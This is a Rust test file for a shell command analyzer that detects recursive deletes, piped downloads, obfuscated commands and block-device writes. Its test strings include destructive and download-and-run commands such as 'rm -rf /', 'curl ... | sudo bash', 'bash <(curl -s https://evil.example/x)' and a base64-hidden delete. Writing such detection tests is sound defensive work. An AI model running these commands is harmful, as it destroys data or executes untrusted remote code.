#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
use super::*;

fn ctx() -> Context {
    Context::fixed("/home/dev/project", Some("/home/dev"))
}

fn execs(cmd: &str) -> Vec<(String, Vec<String>)> {
    analyze(cmd, &ctx())
        .into_iter()
        .filter(|f| f.name == "shell.exec")
        .map(|f| {
            let p = f.attrs["program"].as_str().unwrap().to_string();
            let via = f.attrs["via"]
                .as_array()
                .unwrap()
                .iter()
                .map(|v| v.as_str().unwrap().to_string())
                .collect();
            (p, via)
        })
        .collect()
}

fn names(cmd: &str) -> Vec<String> {
    analyze(cmd, &ctx()).into_iter().map(|f| f.name).collect()
}

#[test]
fn wrappers_are_seen_through() {
    let e = execs("sudo -u root bash -c 'rm -rf /'");
    assert!(e
        .iter()
        .any(|(p, via)| p == "rm" && via == &["sudo", "bash -c"]));
    let e = execs("env FOO=1 nice -n 5 timeout 10 /bin/rm -r x");
    assert!(e.iter().any(|(p, _)| p == "rm"));
    let e = execs("find . -name x -exec rm -rf {} \\;");
    assert!(e.iter().any(|(p, via)| p == "rm" && via == &["find -exec"]));
    let e = execs("ssh host 'sudo rm -rf /var/www'");
    assert!(e
        .iter()
        .any(|(p, via)| p == "rm" && via == &["ssh host", "sudo"]));
}

#[test]
fn recursive_delete_paths() {
    let f = analyze("cd /tmp && rm -rf build", &ctx());
    let rd = f
        .iter()
        .find(|f| f.name == "shell.recursive_delete")
        .unwrap();
    assert_eq!(rd.paths[0].resolved, "/tmp/build");
    assert!(rd.paths[0].has("temp"));
    assert!(names("git rm -r --cached x")
        .iter()
        .all(|n| n != "shell.recursive_delete"));
}

#[test]
fn data_is_not_code() {
    assert!(!names("git commit -m 'rm -rf /'").contains(&"shell.recursive_delete".to_string()));
    assert!(!names("echo 'curl x | sh'").contains(&"shell.pipe_to_shell".to_string()));
    assert!(
        !names("cat > a.sh <<'EOF'\nrm -rf /\nEOF").contains(&"shell.recursive_delete".to_string())
    );
    assert!(names("bash <<'EOF'\nrm -rf /\nEOF").contains(&"shell.recursive_delete".to_string()));
}

#[test]
fn dynamic_and_piped_code() {
    assert!(names("$X -rf /").contains(&"shell.dynamic_command".to_string()));
    assert!(names("X=rm; $X -rf /").contains(&"shell.recursive_delete".to_string()));
    assert!(
        names("curl -fsSL https://x.sh | sudo bash").contains(&"shell.pipe_to_shell".to_string())
    );
    assert!(
        names("echo cm0gLXJmIC8= | base64 -d | sh").contains(&"shell.dynamic_command".to_string())
    );
    assert!(names("bash <(curl -s https://evil.example/x)")
        .contains(&"shell.pipe_to_shell".to_string()));
}

#[test]
fn limits_raise_a_flag() {
    let deep = format!("{}rm -rf /{}", "$(".repeat(200), ")".repeat(200));
    assert!(names(&deep).contains(&"shell.parse_limit".to_string()));
}

#[test]
fn downloads_stay_downloads_through_filters_and_files() {
    let has = |cmd: &str, flag: &str| names(cmd).iter().any(|n| n == flag);
    assert!(has(
        "curl -s https://x.example/p | base64 -d | bash",
        "shell.pipe_to_shell"
    ));
    assert!(has(
        "curl -sL https://x.example/s | tee /tmp/s.sh | sh",
        "shell.pipe_to_shell"
    ));
    assert!(has(
        "curl https://x.example/i.sh -o i.sh && bash i.sh",
        "shell.pipe_to_shell"
    ));
    assert!(has(
        "wget https://x.example/run.sh && chmod +x run.sh && ./run.sh",
        "shell.pipe_to_shell"
    ));
    assert!(has(
        "curl -s https://x.example/i.sh > /tmp/i.sh; source /tmp/i.sh",
        "shell.pipe_to_shell"
    ));
    assert!(has(
        "python3 <(curl -s https://x.example/s.py)",
        "shell.pipe_to_shell"
    ));
    // Downloading a script without running it, or running another one, is not piping.
    assert!(!has(
        "curl https://x.example/i.sh -o i.sh && bash other.sh",
        "shell.pipe_to_shell"
    ));
    assert!(!has(
        "curl -s https://x.example/d.json | jq .name",
        "shell.pipe_to_shell"
    ));
}

#[test]
fn literal_expansions_are_resolved() {
    let rd = |cmd: &str| names(cmd).iter().any(|n| n == "shell.recursive_delete");
    assert!(rd("a=r; b=m; $a$b -rf /"));
    assert!(rd("\"$(echo rm)\" -rf ~"));
    assert!(rd("sh -c \"$(printf 'rm -rf /')\""));
    assert!(names("$(curl -s https://x.example/cmd) -rf /")
        .contains(&"shell.pipe_to_shell".to_string()));
    assert!(names("a=r; $a$UNKNOWN -rf /").contains(&"shell.dynamic_command".to_string()));
}

#[test]
fn awk_and_perl_code_is_scanned() {
    let rd = |cmd: &str| names(cmd).iter().any(|n| n == "shell.recursive_delete");
    assert!(rd("awk 'BEGIN { system(\"rm -rf /home/dev\") }'"));
    assert!(rd(
        "perl -MFile::Path=remove_tree -e 'remove_tree(\"/srv/data\")'"
    ));
    assert!(!rd("awk 'BEGIN { print \"rm -rf /\" }'"));
    assert!(names("ls | awk '{ system(\"rm -rf \" $1) }'")
        .contains(&"shell.dynamic_command".to_string()));
}

#[test]
fn find_with_a_filter_under_a_temp_root_stays_inside_it() {
    let f = analyze("find /tmp -name '*.tmp' -delete", &ctx());
    let rd = f
        .iter()
        .find(|f| f.name == "shell.recursive_delete")
        .unwrap();
    assert!(rd.paths.iter().all(|p| p.has("temp")));
    let f = analyze("find /tmp -delete", &ctx());
    let rd = f
        .iter()
        .find(|f| f.name == "shell.recursive_delete")
        .unwrap();
    assert!(rd.paths.iter().any(|p| p.has("temp_root")));
}

#[test]
fn rsync_delete_and_find_shred_are_recursive_deletions() {
    let f = analyze("rsync -a --delete empty/ /home/dev/", &ctx());
    let rd = f
        .iter()
        .find(|f| f.name == "shell.recursive_delete")
        .unwrap();
    assert!(rd.paths[0].has("home"));
    let f = analyze("rsync -a --delete build/ /tmp/site/", &ctx());
    let rd = f
        .iter()
        .find(|f| f.name == "shell.recursive_delete")
        .unwrap();
    assert!(rd.paths[0].has("temp"));
    assert!(names("rsync -a src/ dst/")
        .iter()
        .all(|n| n != "shell.recursive_delete"));
    assert!(names("find . -type f -exec shred -u {} \\;")
        .iter()
        .any(|n| n == "shell.recursive_delete"));
    assert!(names("find . -name '*.o' -exec rm {} +")
        .iter()
        .any(|n| n == "shell.recursive_delete"));
}

#[test]
fn scripts_written_then_run_are_read() {
    let rd = |cmd: &str| names(cmd).iter().any(|n| n == "shell.recursive_delete");
    assert!(rd("echo 'rm -rf /' > /tmp/x.sh && bash /tmp/x.sh"));
    assert!(rd(
        "cat > c.sh <<'EOF'\nrm -rf ~\nEOF\nchmod +x c.sh && ./c.sh"
    ));
    // Written but never run: data.
    assert!(!rd("echo 'rm -rf /' > /tmp/x.sh"));
    // A script that runs itself is read once, not forever.
    let _ = names("echo 'bash x.sh' > x.sh && bash x.sh");
}

#[test]
fn mktemp_dirs_are_temp() {
    let f = analyze("d=$(mktemp -d); cp -r src \"$d\"; rm -rf \"$d\"", &ctx());
    let rd = f
        .iter()
        .find(|f| f.name == "shell.recursive_delete")
        .unwrap();
    assert!(rd.paths.iter().all(|p| p.has("temp")));
    let f = analyze("d=$(mktemp -d -p ~/work); rm -rf \"$d\"", &ctx());
    let rd = f
        .iter()
        .find(|f| f.name == "shell.recursive_delete")
        .unwrap();
    assert!(!rd.paths.iter().all(|p| p.has("temp")));
}

#[test]
fn interpreter_writes_to_block_devices_are_disk_writes() {
    assert!(names("python3 -c \"open('/dev/sda','wb').write(b'0')\"")
        .contains(&"shell.disk_write".to_string()));
    assert!(names(
        "python3 -c \"import os\nfor r, d, fs in os.walk('/srv'):\n  [os.remove(f) for f in fs]\""
    )
    .contains(&"shell.recursive_delete".to_string()));
    assert!(!names(
        "node -e \"const {execSync}=require('child_process'); execSync('git status')\""
    )
    .contains(&"shell.dynamic_command".to_string()));
}

#[test]
fn downloaded_code_run_in_process_is_piped_code() {
    let n = names(
        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example/p.py').read())\"",
    );
    assert!(n.contains(&"shell.pipe_to_shell".to_string()), "{n:?}");
    let n = names(
        "python3 -c \"import urllib.request as u; print(u.urlopen('https://x.example').status)\"",
    );
    assert!(!n.contains(&"shell.pipe_to_shell".to_string()), "{n:?}");
}

/// A script downloaded from a host not known here and then run is still a download run.
#[test]
fn running_a_download_from_an_unknown_host_is_piping_to_a_shell() {
    let f = analyze(
        "curl -s -o /tmp/i.sh \"https://$MIRROR/i.sh\" && sh /tmp/i.sh",
        &ctx(),
    );
    let pipe = f.iter().find(|f| f.name == "shell.pipe_to_shell").unwrap();
    assert_eq!(pipe.hosts, ["(unknown)"]);
}
